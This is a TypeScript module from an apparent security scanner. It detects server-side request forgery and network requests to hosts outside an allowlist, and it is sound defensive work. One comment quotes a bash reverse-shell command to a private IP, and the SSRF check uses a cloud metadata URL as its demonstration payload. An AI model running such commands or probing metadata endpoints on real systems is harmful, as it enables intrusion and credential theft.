/** network-egress: untrusted destinations (SSRF) and constant destinations off the allowlist. */
import { classifyUrl, isSingleLabelName } from '../../policy/urls.js';
import { absentMember, argumentPart, HOLE_MARKER, HOLE_PREFIX, sanitizersOf, skeleton, taintOf } from '../values.js';
import { calleeText, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
import type { Value } from '../facts.js';
import type { Check, CheckContext, ResolvedTaint } from './types.js';

export const URL_PAYLOAD_HOST = '169.254.169.254';

/** `scheme://host[:port]` at the start of a URL text. */
const ORIGIN = /^([a-zA-Z][a-zA-Z0-9+.-]*:\/\/[^/?#]*)/;

/** The constant `scheme://host[:port]` head of a URL template, when the holes come after the host. */
export function constantOrigin(text: string): string | undefined {
  const m = ORIGIN.exec(text);
  if (!m || m[1]!.includes(HOLE_PREFIX)) return undefined;
  // `https://api.example.com` followed directly by a hole could still extend the host name
  const rest = text.slice(m[1]!.length);
  if (rest.startsWith(HOLE_PREFIX)) return undefined;
  return m[1];
}

/**
 * `https://${resource}.openai.azure.com/files/${id}`: the host is built from values that are
 * not untrusted (configuration), and untrusted data only reaches the path. The request
 * goes where the program, not the input, says.
 */
function trustedOrigin(sk: { text: string; holes: Value[] }, ctx: CheckContext): boolean {
  const m = ORIGIN.exec(sk.text);
  if (!m) return false;
  const inHost = [...m[0].matchAll(HOLE_MARKER)].map((x) => Number(x[1]));
  if (!inHost.length) return false;
  return inHost.every((i) => chosenBy(ctx, sk.holes[i]).length === 0);
}

/**
 * `fetch(\`/api/reports/${id}\`)`: a path on the origin the code runs on (a page's own server),
 * whatever the input. Not `//host/...` or `/\\host/...` (browsers read both as a host), nor a
 * hole right after the slash, which could supply the second one.
 */
export function originRelative(text: string): boolean {
  return text.length > 1 && text[0] === '/' && text[1] !== '/' && text[1] !== '\\' && !text.startsWith(HOLE_PREFIX, 1);
}

/**
 * `cards/${cardId}/comments` sent by a client made with a base URL (an axios instance joins the two with a `/`): a path
 * relative to that base, its first segment constant and without a `:` (no scheme); a client without a base refuses it.
 * (Not for a text glued after another, `${base}${path}`, where such a first segment would extend the base's host.)
 */
function relativePath(text: string): boolean {
  const first = /^([A-Za-z0-9_~-][A-Za-z0-9_.~-]*)\//.exec(text)?.[1];
  return first !== undefined && !first.includes(HOLE_PREFIX);
}

/**
 * `f"{self.api_url}/status/{crew_id}"`: a base URL that untrusted data does not reach, then a
 * path. The destination is the base's; the input only picks a path on it.
 */
function trustedBase(sk: { text: string; holes: Value[] }, ctx: CheckContext): boolean {
  const m = new RegExp(`^${HOLE_PREFIX}(\\d+)__(?:[?#]|/(?!/)|${HOLE_PREFIX}(\\d+)__)`).exec(sk.text);
  if (!m || chosenBy(ctx, sk.holes[Number(m[1])]).length) return false;
  // `f"{self.base_url}{path}"` in a helper every call of which passes a path (`self._get(f"/operations/{name}")`), or a
  // request's own path handed on to a configured upstream (`${baseUrl}${path}` with `path` from `req.nextUrl.pathname`)
  return m[2] === undefined || startsWithPathAtEveryCall(ctx, sk.holes[Number(m[2])]) || requestPath(ctx, sk.holes[Number(m[2])]);
}

/** Untrusted text that is only the path of a request's own URL (`req.nextUrl.pathname`, with a route's prefix taken off). */
function requestPath(ctx: CheckContext, v: Value | undefined): boolean {
  const taints = unsanitized(ctx, v, ['url-allowlisted']);
  return taints.length > 0 && taints.every((t) => t.origin.sanitized?.includes('url-path'));
}

/** `f"https://api.unsplash.com{endpoint}"` in a helper every call of which passes a path for `endpoint`. */
function fixedOriginThenPath(sk: { text: string; holes: Value[] }, ctx: CheckContext): boolean {
  const at = sk.text.indexOf(HOLE_PREFIX);
  // the text before the first hole is a whole origin, `scheme://host[:port]`, with a host
  const origin = at > 0 ? ORIGIN.exec(sk.text.slice(0, at))?.[1] : undefined;
  if (origin?.length !== at || origin.endsWith('//')) return false;
  const next = new RegExp(`^${HOLE_PREFIX}(\\d+)__`).exec(sk.text.slice(at));
  return !!next && startsWithPathAtEveryCall(ctx, sk.holes[Number(next[1])]);
}

/**
 * A helper's parameter every call site in the file fills with URL text `test` accepts, also through helpers
 * that hand their own parameter on (`_github_post(path)` calling `_github_write("POST", path)`), two deep.
 */
function everyCallPasses(ctx: CheckContext, v: Value | undefined, test: (sk: { text: string; holes: Value[] }) => boolean, depth = 0): boolean {
  const passed = ctx.passedIn?.(v);
  return !!passed && passed.length > 0 && passed.every((p) => {
    // (a URL object's text, `searchUrl.toString()` of a `new URL(...)` of the file: the text it was made from)
    const sk = skeleton(p) ?? urlObjectText(p, ctx);
    if (sk !== undefined) return test(sk);
    return depth < 2 && everyCallPasses(ctx, p, test, depth + 1);
  });
}

/** A helper's parameter every call site in the file fills with text starting with a path or a query (`/x/${id}`, `?q=`). */
function startsWithPathAtEveryCall(ctx: CheckContext, v: Value | undefined): boolean {
  return everyCallPasses(ctx, v, (sk) => sk.text.startsWith('?') || originRelative(sk.text));
}

/**
 * A helper's URL parameter (`_request_with_retry(method, url)`) every call site in the file fills
 * with a URL whose host the program fixed (`f"{SHEETS_API_BASE}/{spreadsheet_id}/values/{a1}"`):
 * the input only picks a path on it, as it would written at the call.
 */
function fixedHostAtEveryCall(ctx: CheckContext, v: Value): boolean {
  return everyCallPasses(ctx, v, (sk) => fixedHostText(sk, ctx));
}

/** Objects that stand for the URL they were made from, by the name of the value a call of the maker gives. */
const URL_OBJECT_MAKERS = new Map([
  ['URL()', 'URL'],
  ['urllib.request.Request()', 'urllib.request.Request'],
  // (yarl's, which aiohttp uses: `str(URL(self.base_url + query))`)
  ['yarl.URL()', 'yarl.URL'],
]);

/**
 * `const u = new URL(\`https://api.example.com/search?q=${q}\`); fetch(u)`, `urlopen(Request(url, headers=h))`: the URL object's text is
 * that of the `URL(...)` call in the file the same untrusted data went into.
 */
function urlObjectText(v: Value, ctx: CheckContext): { text: string; holes: Value[] } | undefined {
  // (`url.toString()`, `url.href`: the same text)
  const maker = v.kind === 'unknown' && v.ref ? URL_OBJECT_MAKERS.get(v.ref.replace(/\.(?:href|toString\(\)|toJSON\(\))$/, '')) : undefined;
  if (!maker) return undefined;
  const key = (o: { kind: string; name: string; line: number }) => `${o.kind}:${o.name}:${o.line}`;
  const wanted = new Set(taintOf(v).map(key));
  if (!wanted.size) return undefined;
  const made = ctx.facts.calls.filter((c) => c.callee === maker && c.args.length >= 1 && taintOf(c.args[0]).some((o) => wanted.has(key(o))));
  if (made.length === 1) return skeleton(made[0]!.args[0]);
  // more than one candidate (`new URL(\`${BASE}/tools/${slug}\`)` and `new URL(\`${BASE}/tools/${slug}/more\`)` in one
  // function): which one this is cannot be told, but when every one fixes the host, so does this one
  const all = made.map((c) => skeleton(c.args[0]));
  return all.length > 1 && all.every((sk) => !!sk && fixedHostText(sk, ctx)) ? all[0] : undefined;
}

/**
 * Untrusted origins that choose a destination. One that only chose what an outside service was asked
 * (a search query) does not choose the links the service answers with.
 */
function chosenBy(ctx: CheckContext, v: Value | undefined): ResolvedTaint[] {
  return unsanitized(ctx, v, ['url-allowlisted']).filter((t) => t.origin.via !== 'content');
}

/** Text of a URL whose host the program fixed, whatever the rest: a constant origin, a path, or a trusted origin or base then a path. */
function fixedHostText(sk: { text: string; holes: Value[] }, ctx: CheckContext): boolean {
  return constantOrigin(sk.text) !== undefined || originRelative(sk.text) || trustedOrigin(sk, ctx) || trustedBase(sk, ctx);
}

/**
 * An untrusted origin that reaches a helper's URL parameter through a call of this file passing a URL
 * whose host the program fixed (`execute(f"{endpoint}/api/v1/{query_type}")` with the model's query type):
 * at that call the input only picks a path, whatever other calls of the helper pass.
 */
function throughFixedHost(ctx: CheckContext, v: Value, t: ResolvedTaint): boolean {
  const params = taintOf(v);
  const o = params.length === 1 && params[0]!.kind === 'param' ? params[0]! : undefined;
  if (!o?.functionId) return false;
  const entry = [...t.trace].reverse().find((s) => s.message.startsWith(`passed as \`${o.name}\` to `));
  if (!entry || entry.file !== ctx.facts.file) return false;
  const call = ctx.facts.calls.find((c) => c.target === o.functionId && c.range.line === entry.line);
  const arg = call && argumentPart(call.kwargs[o.name] ?? (o.index !== undefined ? call.args[o.index] : undefined), o);
  const sk = skeleton(arg) ?? (arg && urlObjectText(arg, ctx));
  return !!sk && (fixedHostText(sk, ctx) || fixedOriginThenPath(sk, ctx));
}

function allowlistActive(ctx: CheckContext): string[] | null {
  if (ctx.config.network.allow !== null) return ctx.config.network.allow;
  return ctx.config.policy === 'strict' || ctx.config.policy === 'audit' ? [] : null;
}

/** The members of a request's options object that choose where it goes (Node's `http.request(options)`, axios' config). */
const DESTINATION_MEMBERS = ['protocol', 'host', 'hostname', 'port', 'url', 'baseURL', 'baseUrl', 'origin', 'socketPath'];

/**
 * What chooses the destination of a request given as an options object: those members, written or supplied by a spread
 * (`https.request({ ...options, timeout })`: the caller's `options.hostname`), not its path, headers or body; a value
 * that is not an object is the destination itself.
 */
function destinationOf(v: Value): Value | undefined {
  if (v.kind !== 'dict') return v;
  const parts = DESTINATION_MEMBERS.flatMap((k) => (Object.prototype.hasOwnProperty.call(v.entries, k) ? [v.entries[k]!] : v.taint?.length ? [absentMember(v, k)] : []));
  return parts.length > 1 ? { kind: 'list', items: parts } : parts[0];
}

export const urlUntrusted: Check = {
  kind: 'sink',
  judge(hit, ctx) {
    const v = hit.value && destinationOf(hit.value);
    if (!v || v.kind === 'const') return undefined;
    const sanitizers = sanitizersOf(v);
    if (sanitizers.includes('url-allowlisted') || sanitizers.includes('governed')) return undefined;
    const sk = skeleton(v) ?? urlObjectText(v, ctx);
    if (sk && (constantOrigin(sk.text) || originRelative(sk.text) || relativePath(sk.text))) return undefined; // fixed host: the path may vary
    if (sk && (trustedOrigin(sk, ctx) || trustedBase(sk, ctx) || fixedOriginThenPath(sk, ctx))) return undefined;
    if (!sk && fixedHostAtEveryCall(ctx, v)) return undefined;
    const taints = chosenBy(ctx, v).filter((t) => !throughFixedHost(ctx, v, t));
    if (!taints.length) return undefined;
    const callee = calleeText(ctx, hit.call);
    return {
      message: `\`${callee}\` sends a request to a destination taken from ${taintPhrase(taints)} without an allowlist check (server-side request forgery).`,
      severity: severityForTaint(taints, ctx.rule.severity),
      trace: traceOf(taints, ctx, hit.call, `reaches \`${callee}\``),
      action: { kind: 'http', url: `http://${URL_PAYLOAD_HOST}/latest/meta-data/` },
    };
  },
};

export const urlAllowlist: Check = {
  kind: 'sink',
  judge(hit, ctx) {
    // without an allowlist, public hosts pass and private, loopback and metadata addresses do not (as in the kernel)
    const allow = allowlistActive(ctx);
    const sk = skeleton(hit.value);
    if (!sk) return undefined;
    const origin = sk.holes.length ? constantOrigin(sk.text) : sk.text;
    if (!origin || !/^[a-zA-Z][a-zA-Z0-9+.-]*:/.test(origin)) return undefined;
    // a raw connection (bash's `/dev/tcp/<host>/<port>`) is judged by its host as a request is
    const socket = allow === null && /^(?:tcp|udp):/i.test(origin);
    if (allow === null && !socket && !/^https?:/i.test(origin)) return undefined;
    const verdict = classifyUrl(socket ? origin.replace(/^[a-z]+:/i, 'http:') : origin, allow);
    if (verdict.allowed) return undefined;
    // a cloud metadata service hands out credentials; with no allowlist configured, a local service (a model server on
    // localhost, `0.0.0.0`) is usually intended, and so is a single-label name (`http://api:8000`, `http://searxng:8080`):
    // a Compose or Kubernetes service of the deployment's own, which only its network resolves. (A private address
    // written as a number stays at the rule's severity: `bash -i >& /dev/tcp/10.0.0.1/4444` is a reverse shell.)
    const service = allow === null && verdict.destination === 'private' && !verdict.ip && !!verdict.host && isSingleLabelName(verdict.host);
    return {
      message: `\`${calleeText(ctx, hit.call)}\` reaches ${quote(verdict.host ?? origin)}: ${verdict.reason ?? 'not in network.allow'}${service ? '; a single-label name is usually a service of the deployment\'s own network (Compose, Kubernetes), so it is graded low' : ''}.`,
      ...(verdict.destination === 'metadata' ? { severity: 'high' as const } : allow === null && (verdict.destination === 'this-host' || service) ? { severity: 'low' as const } : {}),
      action: { kind: 'http', url: sk.holes.length ? origin + '/' : sk.text },
    };
  },
};
